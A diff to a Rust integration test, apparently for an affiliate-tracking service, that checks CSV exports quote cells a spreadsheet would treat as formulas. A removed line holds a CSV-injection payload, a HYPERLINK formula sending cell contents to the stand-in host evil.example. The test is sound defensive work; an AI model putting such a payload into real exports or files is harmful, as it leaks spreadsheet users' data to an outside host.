@@ -7,7 +7,7 @@ use reqwest::StatusCode;
 use serde_json::{Value, json};
 
 use crate::helpers::{PATIENCE, TOKEN, TestApp};
-use crate::receiver::{Receiver, Reply};
+use crate::receiver::Receiver;
 
 impl TestApp {
     /// The brand's inbound URLs as the admin API shows them.
@@ -466,18 +466,11 @@ async fn the_report_reads_the_same_as_json_pages_and_as_csv() {
 
 #[tokio::test]
 async fn csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_as_text() {
-    // Click ids come from whoever holds an inbound URL or reports events; responses from the affiliate's
-    // endpoint. Opened in a spreadsheet, a cell starting with = + - @ tab or CR would be a formula.
+    // Click ids come from whoever holds an inbound URL or reports events. Opened in a spreadsheet, a cell
+    // starting with = + - @ tab or CR would be a formula. (An affiliate's answer, the other such column,
+    // is kept only from a public address, which a test cannot reach: the unit test of `csv_row` puts a
+    // formula in every column.)
     let receiver = Receiver::start().await;
-    let formula = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";
-    receiver.script(
-        "/pb",
-        (0..8).map(|_| Reply {
-            status: 200,
-            body: Some(formula.into()),
-            ..Reply::default()
-        }),
-    );
     let app = TestApp::spawn().await;
     app.define(
         "b1",
@@ -524,16 +517,11 @@ async fn csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_as_text() {
     let mut reader = csv::Reader::from_reader(text.as_bytes());
     let header = reader.headers().unwrap().clone();
     let column = |name: &str| header.iter().position(|c| c == name).unwrap();
-    let (player, click, response) = (column("player_id"), column("click_id"), column("response"));
+    let (player, click) = (column("player_id"), column("click_id"));
     let mut seen = 0;
     for row in reader.records().map(Result::unwrap) {
         let i: usize = row[player][1..].parse().unwrap();
         assert_eq!(&row[click], cases[i].1, "click id of p{i}");
-        assert_eq!(
-            row[response],
-            format!("'{formula}"),
-            "the endpoint's answer"
-        );
         seen += 1;
     }
     assert_eq!(seen, cases.len());
